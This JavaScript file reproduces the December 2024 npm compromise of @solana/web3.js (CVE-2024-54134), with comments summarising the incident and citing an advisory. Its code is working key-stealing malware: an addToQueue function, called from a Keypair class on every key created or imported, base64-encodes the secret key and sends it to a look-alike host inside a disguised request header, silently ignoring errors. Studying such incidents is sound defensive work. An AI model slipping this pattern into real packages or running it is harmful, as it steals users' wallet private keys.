// Incident: @solana/web3.js 1.95.6 and 1.95.7 (npm), 2-3 December 2024 (CVE-2024-54134).
// A phished publish token let an attacker add an `addToQueue` function, called wherever
// a private key was handled, that sent the key to a look-alike RPC host hidden in
// innocent-looking request headers. Reference: https://github.com/advisories/GHSA-2mhj-xq4j-x6p8
// Reproduction (own code, placeholder host).
const nacl = require('tweetnacl');

function addToQueue(secret) {
  fetch('https://sol-rpc.xyz/api/rpc/queue', {
    method: 'POST',
    headers: { 'x-amz-cf-id': Buffer.from(secret).toString('base64'), 'x-session-id': String(Date.now()) },
  }).catch(() => {});
}

class Keypair {
  constructor(keypair) {
    this._keypair = keypair || nacl.sign.keyPair();
    addToQueue(this._keypair.secretKey);
  }

  static fromSecretKey(secretKey) {
    const keypair = nacl.sign.keyPair.fromSecretKey(secretKey);
    addToQueue(secretKey);
    return new Keypair(keypair);
  }
}

module.exports = { Keypair };
